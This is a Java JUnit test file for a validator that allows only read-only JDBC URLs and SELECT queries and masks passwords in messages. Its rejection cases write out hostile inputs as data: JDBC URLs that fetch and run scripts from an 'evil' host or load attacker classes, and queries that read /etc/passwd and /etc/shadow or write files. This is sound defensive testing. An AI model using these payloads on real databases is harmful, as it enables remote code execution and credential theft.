package dev.healthaudit.policy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** What a policy's JDBC source may ask of the job: to read rows, nothing else. */
class JdbcSourceRulesTests {

	@ParameterizedTest
	@ValueSource(strings = { "jdbc:postgresql://db.internal:5432/crm",
			"jdbc:postgresql://db/crm?sslmode=verify-full&ApplicationName=x&socketTimeout=30",
			"jdbc:postgresql://db/crm?password=s3cret&readOnly=true", "jdbc:h2:tcp://db:9092/~/crm",
			"jdbc:h2:ssl://db/crm;IFEXISTS=TRUE;ACCESS_MODE_DATA=r", "jdbc:h2:mem:accounts;DB_CLOSE_DELAY=-1",
			"JDBC:H2:MEM:x;mode=PostgreSQL;database_to_lower=TRUE", "jdbc:h2:tcp://db/crm;PASSWORD=pw;USER=sa" })
	void urlsThatOnlyReadPass(String url) {
		assertThat(JdbcSourceRules.urlProblems(url)).as(url).isEmpty();
	}

	@ParameterizedTest(name = "{0}")
	@CsvSource(delimiter = '|', value = {
			"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql' | sets H2's INIT, which runs SQL when the database opens",
			"jdbc:h2:mem:x;init=CREATE ALIAS EXEC AS 'String e(String c) throws Exception { return null; }' | sets H2's INIT",
			"jdbc:h2:mem:x;INIT=SET X=1\\;RUNSCRIPT FROM '/etc/x' | sets H2's INIT",
			"jdbc:h2:mem:x; INIT =x | sets H2's INIT",
			"jdbc:h2:tcp://db/crm;TRACE_LEVEL_FILE=4 | sets H2's TRACE_LEVEL_FILE, which writes every statement to a trace file",
			"jdbc:h2:tcp://db/crm;TRACE_LEVEL_SYSTEM_OUT=3 | writes every statement to the job's output",
			"jdbc:h2:mem:x;AUTO_SERVER=TRUE | opens a network port in the job",
			"jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER='com.example.Evil' | makes the engine load a Java class",
			"jdbc:h2:mem:x;IGNORE_UNKNOWN_SETTINGS=TRUE | would hide settings from this check",
			"jdbc:h2:mem:x;CACHE_SIZE=1 | sets H2's CACHE_SIZE, which a source does not need",
			"jdbc:h2:mem:x;ACCESS_MODE_DATA=rw | sets H2's ACCESS_MODE_DATA to 'rw': a source is only read (r)",
			"jdbc:h2:mem:x;garbage | has an H2 setting that is not KEY=VALUE",
			"jdbc:h2:file:/app/data/audit | opens an embedded H2 database file ('file:/app/data/audit')",
			"jdbc:h2:~/crm | opens an embedded H2 database file ('~/crm')",
			"jdbc:h2:./data/audit;ACCESS_MODE_DATA=r | opens an embedded H2 database file",
			"jdbc:h2:/etc/crm | opens an embedded H2 database file",
			"jdbc:h2:zip:/tmp/db.zip!/crm | opens an embedded H2 database file",
			"jdbc:h2:split:/tmp/crm | opens an embedded H2 database file",
			"jdbc:postgresql://db/crm?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml | sets PostgreSQL's socketFactory, which makes the driver load a Java class",
			"jdbc:postgresql://db/crm?sslfactory=x.Y | makes the driver load a Java class",
			"jdbc:postgresql://db/crm?authenticationPluginClassName=x.Y | makes the driver load a Java class",
			"jdbc:postgresql://db/crm?loggerFile=/app/jobs/x.yml&loggerLevel=TRACE | sets PostgreSQL's loggerFile, which writes the driver's log",
			"jdbc:postgresql://db/crm?readOnly=false | sets PostgreSQL's readOnly=false: a source is only read",
			"jdbc:postgresql://db/crm?readOnlyMode=ignore | sets PostgreSQL's readOnlyMode=ignore",
			"jdbc:postgresql://db/crm?socket%46actory=x.Y | sets PostgreSQL's socketFactory",
			"jdbc:mysql://db/crm?allowLoadLocalInfile=true | is not a PostgreSQL (jdbc:postgresql://...) or H2 server",
			"jdbc:sqlite:/app/data/x.db | is not a PostgreSQL" })
	void urlsThatCouldRunCodeReadFilesOrWriteAreRefusedSayingWhy(String url, String why) {
		assertThat(JdbcSourceRules.urlProblems(url)).as(url)
			.isNotEmpty()
			.allSatisfy((problem) -> assertThat(problem).startsWith("'source.url' "))
			.anySatisfy((problem) -> assertThat(problem).contains(why));
	}

	@Test
	void urlProblemsNeverShowThePassword() {
		assertThat(JdbcSourceRules.urlProblems("jdbc:mysql://u:hunter22@db/crm?password=hunter22")).singleElement()
			.satisfies((problem) -> assertThat(problem).doesNotContain("hunter22").contains("password=****"));
		assertThat(JdbcSourceRules.urlProblems("jdbc:h2:mem:x;PASSWORD=hunter22;TRACE_LEVEL_FILE=3;x"))
			.noneSatisfy((problem) -> assertThat(problem).contains("hunter22"));
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', value = {
			"jdbc:postgresql://h/db?password=s3cret&ssl=true | jdbc:postgresql://h/db?password=****&ssl=true",
			"jdbc:postgresql://h/db?user=a&PASSWORD=s3cret | jdbc:postgresql://h/db?user=a&PASSWORD=****",
			"jdbc:h2:tcp://h/db;USER=sa;PASSWORD=s3cret;IFEXISTS=TRUE | jdbc:h2:tcp://h/db;USER=sa;PASSWORD=****;IFEXISTS=TRUE",
			"jdbc:postgresql://admin:s3cret@h:5432/db | jdbc:postgresql://****@h:5432/db",
			"Connection to h:5432 refused. Check that the hostname and port are correct | Connection to h:5432 refused. Check that the hostname and port are correct",
			"jdbc:postgresql://h/db?sslpassword=s3cret | jdbc:postgresql://h/db?sslpassword=****" })
	void maskHidesPasswordsAndUserInfo(String text, String masked) {
		assertThat(JdbcSourceRules.mask(text)).isEqualTo(masked);
	}

	@Test
	void maskHidesThePasswordWhereverADriverEchoesIt() {
		assertThat(JdbcSourceRules.mask("FATAL: password \"s3cret!\" is wrong", "s3cret!"))
			.isEqualTo("FATAL: password \"****\" is wrong");
		assertThat(JdbcSourceRules.mask("jdbc:postgresql://h/db", "db")).isEqualTo("jdbc:postgresql://h/db");
	}

	@ParameterizedTest
	@ValueSource(strings = { "select identifier, connection_name from accounts order by id",
			"SELECT email AS identifier, 'gmail' AS connection_name FROM users ORDER BY id;",
			"with u as (select * from users) select id as identifier, conn as connection_name from u",
			"select 'file_read(x); delete' as identifier, 'gmail' as connection_name -- a comment; delete\n",
			"select /* csvread('x') */ id as identifier, c as connection_name from t",
			"select \"update\" as identifier, c as connection_name from t", "values ('a', 'gmail')",
			"(select a as identifier, b as connection_name from t)",
			"select $$delete; file_read$$ as identifier, 'gmail' as connection_name" })
	void queriesThatOnlyReadPassOnH2(String query) {
		assertThat(JdbcSourceRules.queryProblems("jdbc:h2:mem:x", query)).as(query).isEmpty();
	}

	@ParameterizedTest(name = "{0}")
	@CsvSource(delimiter = '|', value = {
			"select file_read('/app/data/audit.mv.db') as identifier, 'gmail' as connection_name | calls FILE_READ, which reads or writes files of the job's machine",
			"select * from CSVREAD('/etc/passwd') | calls CSVREAD",
			"select \"FILE_READ\"('/etc/shadow') as identifier | calls FILE_READ",
			"select csvwrite('/app/jobs/x.yml', 'select 1') | calls CSVWRITE",
			"select link_schema('x', '', 'jdbc:h2:./data/audit', 'sa', '', 'PUBLIC') | calls LINK_SCHEMA",
			"select * from t; create alias x as 'void x() {}' | holds more than one statement",
			"call file_write('x', '/tmp/x') | must be one SELECT statement",
			"runscript from 'http://evil/x.sql' | must be one SELECT statement",
			"create alias exec for 'java.lang.Runtime.exec' | must be one SELECT statement",
			"select * from final table (delete from accounts) | contains DELETE, which writes",
			"select * from new table (insert into t values (1)) | contains INSERT, which writes",
			"select U&\"\\0046ILE_READ\"('/etc/passwd') | uses a Unicode escape",
			"select 1 /* never closed | has a comment that is never closed",
			"select 1 /* a /* nested */ */ | has a comment inside a comment",
			"select 'never closed | has a quoted string that is never closed",
			"'' | must be one SELECT statement (or WITH, VALUES, TABLE), not empty" })
	void queriesThatReadFilesOrWriteAreRefusedOnH2(String query, String why) {
		assertThat(JdbcSourceRules.queryProblems("jdbc:h2:mem:x", query)).as(query)
			.isNotEmpty()
			.allSatisfy((problem) -> assertThat(problem).startsWith("'source.query' "))
			.anySatisfy((problem) -> assertThat(problem).contains(why));
	}

	@Test
	void postgresqlQueriesAreReadInAReadOnlyTransactionButStillCallNoFileFunction() {
		String url = "jdbc:postgresql://db/crm";
		assertThat(
				JdbcSourceRules.queryProblems(url, "select id as identifier, c as connection_name from t for update"))
			.isEmpty();
		assertThat(JdbcSourceRules.queryProblems(url, "select E'it\\'s; delete' as identifier, $tag$x;y$tag$ as c"))
			.isEmpty();
		assertThat(JdbcSourceRules.queryProblems(url, "select pg_read_file('/etc/passwd') as identifier"))
			.containsExactly("'source.query' calls PG_READ_FILE, which reads or writes files of the database server; "
					+ "a source query reads tables only");
		assertThat(JdbcSourceRules.queryProblems(url, "select 1; select 2"))
			.containsExactly("'source.query' holds more than one statement; a source is one SELECT");
		assertThat(JdbcSourceRules.queryProblems(url, "select $1 as identifier")).isEmpty();
	}

}
